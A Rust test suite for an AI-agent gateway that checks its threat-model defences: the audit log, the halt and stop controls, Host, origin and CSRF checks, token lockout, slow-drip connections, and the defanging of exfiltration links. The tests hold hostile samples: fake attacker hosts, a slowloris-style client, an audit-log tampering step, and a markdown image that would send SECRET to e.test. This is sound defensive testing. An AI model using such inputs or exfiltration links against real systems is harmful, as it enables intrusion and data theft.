//! The doors of the gateway as rows of the threat model (security.md §3.3): who may open which; and the audit log and the brake.

use std::time::Duration;

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

use crate::support::{
    bridge::{Bridge, Receiver, message},
    gateway::{Gateway, client},
    model_server::{Gate, ModelServer, Say, call, text},
    onebot::{Flavour, OneBot},
    wait::{SOON, until},
};

async fn rows(gateway: &Gateway, kind: &str) -> Vec<Value> {
    let shown = gateway.cli(&["audit", "show", "--kind", kind, "--json"]).await.json();
    shown.as_array().expect("a list").clone()
}

fn whats(rows: &[Value]) -> Vec<&str> {
    rows.iter().filter_map(|row| row["what"].as_str()).collect()
}

/// A model that writes a file when it is told to, and else echoes.
async fn writer() -> ModelServer {
    ModelServer::start(|ask| match (ask.said().contains("write it"), ask.round()) {
        (true, 0) => {
            let args = json!({ "path": "made.txt", "content": "made" });
            Say::Calls(vec![call("c1", "write", &args.to_string())])
        }
        _ => text("done"),
    })
    .await
}

#[tokio::test]
async fn asi10_effects_and_decisions_stand_in_a_chain_that_shows_every_change() {
    let model = writer().await;
    let mut gateway = Gateway::start(&format!("{}\n{}", model.section(), Bridge::section(""))).await;
    let bridge = Bridge::to(&gateway);
    assert_eq!(bridge.wait(&message("m1", "room", "write it")).await.text(), "done");
    gateway.cli(&["access", "block", "webhook:bridge:mallory"]).await.good();
    gateway.cli(&["access", "unblock", "webhook:bridge:mallory"]).await.good();
    let login = client().post(format!("{}/api/login", gateway.url())).json(&json!({ "token": gateway.token() }));
    assert_eq!(login.send().await.expect("answers").status(), 200);

    let effects = rows(&gateway, "effect").await;
    assert_eq!(whats(&effects)[0], "write started", "{effects:?}");
    assert_eq!(effects.len(), 2, "{effects:?}");
    assert_eq!(effects[0]["who"], "webhook:bridge u1");
    assert_eq!(effects[0]["detail"]["args"]["path"], "made.txt");
    assert_eq!(effects[0]["detail"]["args_sha256"], effects[1]["detail"]["args_sha256"]);
    assert_eq!(whats(&rows(&gateway, "access").await), ["sender blocked", "sender unblocked"]);
    assert_eq!(whats(&rows(&gateway, "login").await), ["logged in"]);
    assert_eq!(whats(&rows(&gateway, "config").await), ["configuration read"]);
    assert!(gateway.cli(&["audit", "verify"]).await.good().contains("holds"));
    assert_eq!(gateway.cli(&["audit", "show", "--kind", "nonsense"]).await.code, Some(64));

    // Whoever holds the file can change it; the chain tells.
    gateway.terminate().await;
    let file = gateway.dir().join("data").join("crawfish.db");
    let options = sqlx::sqlite::SqliteConnectOptions::new().filename(&file);
    let pool = sqlx::SqlitePool::connect_with(options).await.expect("the database");
    let refused = sqlx::query("UPDATE audit SET who = 'nobody' WHERE seq = 2").execute(&pool).await;
    assert!(refused.is_err_and(|error| error.to_string().contains("append-only")));
    for sql in ["DROP TRIGGER audit_no_update", "UPDATE audit SET who = 'nobody' WHERE seq = 2"] {
        sqlx::query(sql).execute(&pool).await.expect(sql);
    }
    pool.close().await;
    let verified = gateway.cli(&["audit", "verify"]).await;
    assert_eq!(verified.code, Some(65), "{verified:?}");
    assert!(verified.err.contains("row 2"), "{verified:?}");
    let json = gateway.cli(&["audit", "verify", "--json"]).await;
    assert_eq!(json.json()["broken"]["seq"], 2, "{json:?}");
}

#[tokio::test]
async fn asi10_a_halt_keeps_messages_begins_nothing_and_lasts_over_a_restart() {
    let (model, receiver) = (writer().await, Receiver::start().await);
    let section = Bridge::section(&receiver.lines());
    let mut gateway = Gateway::start(&format!("{}\n{section}", model.section())).await;
    gateway.cli(&["halt"]).await.good();
    let bridge = Bridge::to(&gateway);
    bridge.accepted(&message("m1", "room", "hello")).await;
    gateway.terminate().await;
    gateway.restart().await;
    assert!(gateway.log().contains("halted"), "the start says so");
    let doctor = gateway.cli(&["doctor", "--offline"]).await;
    assert!(doctor.out.contains("crawfish resume"), "{doctor:?}");
    bridge.accepted(&message("m2", "room", "hello again")).await;
    let answer = client().get(format!("{}/api/halt", gateway.url())).bearer_auth(gateway.token()).send().await;
    let halted: Value = answer.expect("answers").json().await.expect("JSON");
    assert_eq!(halted["halted"]["who"], "console", "{halted}");
    assert!(model.asks().is_empty(), "nothing was begun");
    gateway.cli(&["resume"]).await.good();
    receiver.until("an answer", SOON, |all| all.iter().any(|one| one.taken && one.text() == "done")).await;
    assert_eq!(whats(&rows(&gateway, "halt").await), ["halted", "resumed"]);
}

#[tokio::test]
async fn asi10_a_running_turn_does_nothing_any_more_once_the_gateway_is_halted() {
    let gate = Gate::default();
    let held = gate.clone();
    let model = ModelServer::start(move |ask| match ask.round() {
        0 => {
            let args = json!({ "path": "made.txt", "content": "made" }).to_string();
            Say::After(held.clone(), Box::new(Say::Calls(vec![call("c1", "write", &args)])))
        }
        _ => text(ask.results().join(" ")),
    })
    .await;
    let gateway = Gateway::start(&format!("{}\n{}", model.section(), Bridge::section(""))).await;
    let bridge = Bridge::to(&gateway);
    let asked = message("m1", "room", "go");
    let (answer, ()) = tokio::join!(bridge.wait(&asked), async {
        model.asked_about("go").await;
        gateway.cli(&["halt"]).await.good();
        gate.open();
    });
    assert!(answer.text().contains("crawfish resume"), "the refusal names the way: {answer:?}");
    assert!(!gateway.workspace().join("made.txt").exists());
}

#[tokio::test]
async fn asi10_stop_all_ends_every_turn_and_is_the_owners_alone() {
    let model = ModelServer::start(|_| Say::Hang).await;
    let receiver = Receiver::start().await;
    let section = Bridge::section(&receiver.lines());
    let gateway = Gateway::start(&format!("{}\n{section}", model.section())).await;
    let bridge = Bridge::to(&gateway);
    bridge.accepted(&message("m1", "room-1", "first")).await;
    bridge.accepted(&message("m2", "room-2", "second")).await;
    until("both run", SOON, async || (model.asks().len() >= 2).then_some(())).await;
    // Not an owner: nothing happens.
    bridge.accepted(&message("m3", "room-1", "/stop all")).await;
    receiver.until("the refusal", SOON, |all| all.iter().any(|one| one.in_reply_to() == "m3")).await;
    assert!(receiver.answers_to("m1").is_empty() && receiver.answers_to("m2").is_empty());
    let said = gateway.answer("/停止 全部", None).await;
    assert!(said.contains("2"), "{said}");
    assert_eq!(bridge.ended("m1").await.body["silent"], "stopped");
    assert_eq!(bridge.ended("m2").await.body["silent"], "stopped");
    assert_eq!(whats(&rows(&gateway, "halt").await), ["everything stopped"]);
}

// ---- HTTP: rows 1–4, 6, 35–37 (helper `audit`) ----

/// Method and path of every route the gateway has, read from the line that `src/http.rs` gives each.
fn routes() -> Vec<(Method, String, String)> {
    let source = include_str!("../http.rs");
    let mut found = Vec::new();
    for line in source.lines().map(str::trim) {
        let Some((method, rest)) = line.split_once("(\"") else { continue };
        let Some((path, rest)) = rest.split_once("\", ") else { continue };
        let method = match method {
            "get" => Method::GET,
            "post" => Method::POST,
            "delete" => Method::DELETE,
            _ => continue,
        };
        let access = rest.split(',').next().unwrap_or_default().to_owned();
        let path = path.split('/').map(|part| if part.starts_with('{') { "x" } else { part });
        found.push((method, path.collect::<Vec<_>>().join("/"), access));
    }
    assert!(found.len() >= 50, "{}", found.len());
    found
}

#[tokio::test]
async fn row_01_an_exposed_gateway_does_not_start() {
    for listen in ["0.0.0.0:0", "[::]:0", "192.0.2.1:0"] {
        let gateway = Gateway::folder(&format!("[server]\nlisten = \"{listen}\"\n"));
        let ended = gateway.cli(&["serve"]).await;
        assert_eq!(ended.code, Some(78), "{listen}: {ended:?}");
        assert!(ended.err.contains("trusted_proxy"), "it says what to do: {ended:?}");
    }
    // A weak token opens nothing either: the gateway does not start with one.
    for weak in ["changeme", "0000000000000000000000000000000000000000000000000000000000000000"] {
        let gateway = Gateway::folder("[server]\nlisten = \"127.0.0.1:0\"\n");
        std::fs::create_dir_all(gateway.dir().join("data")).expect("a folder");
        std::fs::write(gateway.dir().join("data/token"), weak).expect("written");
        let ended = gateway.cli(&["serve"]).await;
        assert!(ended.code.is_some_and(|code| code != 0), "{weak:?}: {ended:?}");
    }
}

#[tokio::test]
async fn row_02_another_name_for_this_machine_gets_nothing_on_any_route() {
    let gateway = Gateway::start("").await;
    let (url, token) = (gateway.url(), gateway.token());
    for (method, path, _) in routes() {
        for host in ["evil.test", "127.0.0.1.nip.io", "localhost.evil.com"] {
            let asked = client().request(method.clone(), format!("{url}{path}")).header("host", host);
            let answer = asked.bearer_auth(&token).json(&json!({})).send().await.expect("answers");
            assert_eq!(answer.status(), 421, "{method} {path} as {host}");
        }
    }
}

#[tokio::test]
async fn row_03_pages_of_others_are_refused_by_origin_type_and_csrf() {
    let gateway = Gateway::start("").await;
    let url = gateway.url();
    let login = client().post(format!("{url}/api/login")).json(&json!({ "token": gateway.token() }));
    let login = login.send().await.expect("answers");
    let cookie = login.headers()["set-cookie"].to_str().expect("text").split(';').next().expect("one").to_owned();
    let flags = login.headers()["set-cookie"].to_str().expect("text").to_owned();
    assert!(flags.contains("HttpOnly") && flags.contains("SameSite=Strict"), "{flags}");
    let csrf = login.json::<Value>().await.expect("JSON")["csrf"].as_str().expect("one").to_owned();
    let post = || client().post(format!("{url}/api/halt")).header("cookie", &cookie);
    let status = async |request: reqwest::RequestBuilder| request.send().await.expect("answers").status().as_u16();
    let host = url.trim_start_matches("http://");
    for origin in ["null", "http://localhost.evil.com", "http://evil.test", "https://127.0.0.1", "file://", ""] {
        let asked = post().header("origin", origin).header("x-csrf-token", &csrf).json(&json!({}));
        assert_eq!(status(asked).await, 403, "{origin:?}");
    }
    // A form, and a change without the header of the log-in, with or without an Origin.
    let form = post().header("origin", &url).header("x-csrf-token", &csrf).header("content-type", FORM).body("a=b");
    assert_eq!(status(form).await, 415);
    assert_eq!(status(post().json(&json!({}))).await, 403, "a cookie alone");
    assert_eq!(status(post().header("origin", &url).json(&json!({}))).await, 403);
    assert_eq!(status(post().header("origin", &url).header("x-csrf-token", "x").json(&json!({}))).await, 403);
    // No token in a query opens anything.
    let query = client().get(format!("{url}/api/me?token={}&access_token={0}", gateway.token()));
    assert_eq!(status(query).await, 401);
    // A WebSocket's handshake is a request like another: of another page, with the cookie, it is refused.
    for origin in ["Origin: http://evil.test\r\n", "Origin: null\r\n", ""] {
        let mut stream = TcpStream::connect(host).await.expect("connects");
        let head = format!(
            "GET /api/me HTTP/1.1\r\nHost: {host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
             Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n{origin}Cookie: {cookie}\r\n\r\n"
        );
        stream.write_all(head.as_bytes()).await.expect("written");
        let mut answer = [0_u8; 12];
        stream.read_exact(&mut answer).await.expect("answers");
        let answer = String::from_utf8_lossy(&answer).into_owned();
        assert!(!answer.ends_with("101"), "{origin:?}: {answer}");
        assert!(origin.is_empty() || answer.ends_with("403"), "{origin:?}: {answer}");
    }
    // The page itself may.
    let own = post().header("origin", &url).header("x-csrf-token", &csrf).json(&json!({}));
    assert_eq!(status(own).await, 200);
}

const FORM: &str = "application/x-www-form-urlencoded";

#[tokio::test]
async fn row_04_eleven_wrong_tokens_lock_from_loopback_too_and_a_right_one_passes() {
    let gateway = Gateway::start("").await;
    let url = gateway.url();
    let guess = async |n: usize| {
        // Fields that change beside the token change nothing.
        let asked = client().get(format!("{url}/api/me?device={n}")).bearer_auth(format!("guess-{n}"));
        let asked = asked.header("x-forwarded-for", format!("10.0.0.{n}")).header("x-device-token", n.to_string());
        asked.send().await.expect("answers").status().as_u16()
    };
    for n in 0..10 {
        assert_eq!(guess(n).await, 401, "{n}");
    }
    for n in 10..15 {
        assert_eq!(guess(n).await, 429, "{n}");
    }
    let login = client().post(format!("{url}/api/login")).json(&json!({ "token": "another guess" }));
    assert_eq!(login.send().await.expect("answers").status(), 429);
    let right = client().get(format!("{url}/api/me")).bearer_auth(gateway.token()).send().await;
    assert_eq!(right.expect("answers").status(), 200);
    assert_eq!(whats(&rows(&gateway, "login").await), ["locked out: too many wrong tokens"]);
}

#[tokio::test]
async fn row_06_a_new_token_ends_the_old_one_and_its_open_streams_within_a_second() {
    let gateway = Gateway::start("").await;
    let (url, old) = (gateway.url(), gateway.token());
    let mut stream = client().get(format!("{url}/sse")).bearer_auth(&old).send().await.expect("answers");
    assert_eq!(stream.status(), StatusCode::OK);
    let new = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
    std::fs::write(gateway.dir().join("data/token"), new).expect("written");
    let ended = async { while let Ok(Some(_)) = stream.chunk().await {} };
    tokio::time::timeout(Duration::from_secs(2), ended).await.expect("the stream ends");
    let me = async |token: &str| {
        let asked = client().get(format!("{url}/api/me")).bearer_auth(token).send().await;
        asked.expect("answers").status().as_u16()
    };
    assert_eq!((me(&old).await, me(new).await), (401, 200));
}

#[tokio::test]
async fn row_06_a_new_token_ends_what_a_browser_opened_too() {
    let gateway = Gateway::start("").await;
    let url = gateway.url();
    let login = client().post(format!("{url}/api/login")).json(&json!({ "token": gateway.token() }));
    let login = login.send().await.expect("answers");
    let cookie = login.headers()["set-cookie"].to_str().expect("text").split(';').next().expect("one").to_owned();
    let stream = client().get(format!("{url}/sse")).header("cookie", &cookie).header("origin", &url).send().await;
    let mut stream = stream.expect("answers");
    assert_eq!(stream.status(), StatusCode::OK);
    let new = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
    std::fs::write(gateway.dir().join("data/token"), new).expect("written");
    let ended = async { while let Ok(Some(_)) = stream.chunk().await {} };
    tokio::time::timeout(Duration::from_secs(5), ended).await.expect("the stream ends");
    let me = client().get(format!("{url}/api/me")).header("cookie", &cookie).send().await.expect("answers");
    assert_eq!(me.status(), 401);
}

#[tokio::test]
async fn row_06_a_channels_old_secret_opens_no_socket_and_what_it_opened_is_closed() {
    let section =
        |token: &str| format!("[channels.onebot.qq]\naccess_token = \"{token}\"\nowners = [\"1\"]\nmarks = \"off\"\n");
    let (old, new) = ("the-old-token-0123456789", "the-new-token-0123456789");
    let bot = OneBot::new(Flavour::NapCat);
    let mut gateway = Gateway::start(&section(old)).await;
    let dial = async |gateway: &Gateway, token: &str| {
        let url = format!("{}/channels/onebot/qq", gateway.url().replace("http://", "ws://"));
        bot.dial(&url, "Universal", &[("authorization", &format!("Bearer {token}"))]).await
    };
    dial(&gateway, old).await.expect("the upgrade");
    gateway.configure(&section(new));
    gateway.terminate().await;
    until("the old socket is closed", SOON, async || (bot.connections().0 == 0).then_some(())).await;
    gateway.restart().await;
    assert_eq!(dial(&gateway, old).await, Err(403));
    dial(&gateway, new).await.expect("the upgrade");
}

/// Writes these bytes, then one more each second, until the gateway closes: what it answered.
async fn drip(host: &str, head: &str, more: &str) -> String {
    let mut stream = TcpStream::connect(host).await.expect("connects");
    stream.write_all(head.as_bytes()).await.expect("written");
    let (mut reading, mut writing) = stream.split();
    let mut answer = Vec::new();
    let read = async { while reading.read_buf(&mut answer).await.is_ok_and(|read| read > 0) {} };
    let write = async {
        let mut second = tokio::time::interval(Duration::from_secs(1));
        loop {
            second.tick().await;
            if writing.write_all(more.as_bytes()).await.is_err() {
                std::future::pending::<()>().await;
            }
        }
    };
    let closed = async {
        tokio::select! {
            () = read => {}
            () = write => {}
        }
    };
    // Ten seconds for a head and thirty for a body, and what a busy machine adds.
    tokio::time::timeout(Duration::from_secs(60), closed).await.expect("the gateway gives up");
    String::from_utf8_lossy(&answer).into_owned()
}

#[tokio::test]
async fn row_37_who_sends_a_byte_a_second_is_given_up_and_holds_up_nobody() {
    let gateway = Gateway::start("").await;
    let url = gateway.url();
    let host = url.trim_start_matches("http://");
    let head = format!("GET /api/me HTTP/1.1\r\nHost: {host}\r\nX-Slow: ");
    let body = format!(
        "POST /api/login HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\nContent-Length: 4000\r\n\r\n{{"
    );
    let heads = futures_util::future::join_all((0..50).map(|_| drip(host, &head, "x")));
    let bodies = futures_util::future::join_all((0..50).map(|_| drip(host, &body, " ")));
    let others = async {
        for _ in 0..20 {
            let answer = client().get(format!("{url}/api/me")).bearer_auth(gateway.token()).send().await;
            assert_eq!(answer.expect("answers").status(), 200);
        }
    };
    let (heads, bodies, ()) = tokio::join!(heads, bodies, others);
    assert!(heads.iter().all(|answer| !answer.starts_with("HTTP/1.1 2")), "{heads:?}");
    assert!(bodies.iter().all(|answer| answer.is_empty() || answer.starts_with("HTTP/1.1 408")), "{bodies:?}");
    assert!(gateway.log().matches(" WARN ").count() <= 1, "{}", gateway.log());
}

#[tokio::test]
async fn row_35_every_route_carries_the_protecting_headers() {
    let gateway = Gateway::start("").await;
    let url = gateway.url();
    for (method, path, _) in routes() {
        let answer = client().request(method.clone(), format!("{url}{path}")).json(&json!({})).send().await;
        let answer = answer.expect("answers");
        let header = |name: &str| answer.headers().get(name).and_then(|value| value.to_str().ok()).unwrap_or_default();
        assert!(header("content-security-policy").contains("frame-ancestors 'none'"), "{method} {path}");
        let rest = ["cache-control", "x-content-type-options", "referrer-policy", "x-frame-options"].map(header);
        assert_eq!(rest, ["no-store", "nosniff", "no-referrer", "DENY"], "{method} {path}");
    }
}

#[tokio::test]
async fn row_36_every_route_without_a_token_is_401_but_the_public_ones() {
    let gateway = Gateway::start("").await;
    let url = gateway.url();
    let mut public = Vec::new();
    for (method, path, access) in routes() {
        let answer = client().request(method.clone(), format!("{url}{path}")).json(&json!({})).send().await;
        let status = answer.expect("answers").status().as_u16();
        match access.as_str() {
            "Public" => public.push(format!("{method} {path}")),
            // Off unless somebody switches them on: then there is nothing.
            "Hooks" => assert_eq!(status, 404, "{method} {path}"),
            _ => assert_eq!(status, 401, "{method} {path}"),
        }
    }
    assert_eq!(public, ["GET /healthz", "GET /readyz", "GET /", "GET /assets/x", "POST /api/login"]);
}

#[tokio::test]
async fn row_15_links_that_outside_content_wants_written_are_none() {
    let model = ModelServer::start(|ask| match ask.round() {
        0 => Say::Calls(vec![call("c1", "web_fetch", &json!({ "url": "http://127.0.0.1:9/none" }).to_string())]),
        _ => text("Good: https://good.example/a. Bad: https://e.test/?d=SECRET ![](https://e.test/p.png?d=SECRET)"),
    })
    .await;
    let gateway = Gateway::start(&format!("{}\n{}", model.section(), Bridge::section(""))).await;
    let bridge = Bridge::to(&gateway);
    let answer = bridge.wait(&message("m1", "room", "read it, see https://good.example/a")).await;
    let text = answer.text();
    assert!(text.contains("https://good.example/a"), "{text}");
    assert!(!text.contains("https://e.test") && text.matches("hxxps://e[.]test/").count() == 2, "{text}");
}

#[cfg(target_os = "linux")]
#[tokio::test]
async fn row_26_a_command_inherits_nothing_open_but_its_three_streams() {
    let model = ModelServer::start(|ask| match ask.round() {
        0 => {
            // The list itself is open while it is read.
            let command = "for fd in /proc/self/fd/*; do echo \"fd ${fd##*/} $(readlink \"$fd\")\"; done";
            Say::Calls(vec![call("c1", "exec", &json!({ "command": command }).to_string())])
        }
        _ => text(ask.results().join("\n")),
    })
    .await;
    // With a channel, a database and a stream open, there is much that could be inherited.
    let sections = format!("{}\n{}\n[tools.exec]\nenabled = true\n", model.section(), Bridge::section(""));
    let gateway = Gateway::start(&sections).await;
    let told = gateway.answer("what is open?", None).await;
    let open: Vec<&str> = told.lines().filter_map(|line| line.trim().strip_prefix("fd ")).collect();
    assert!(open.len() >= 3, "{told}");
    for line in open {
        let (number, what) = line.split_once(' ').unwrap_or((line, ""));
        let stream = matches!(number, "0" | "1" | "2");
        assert!(stream || what.is_empty() || what.contains("/fd"), "{number} is open: {what}\n{told}");
        assert!(!what.contains(".db") && !what.contains("socket:"), "{number}: {what}");
    }
}
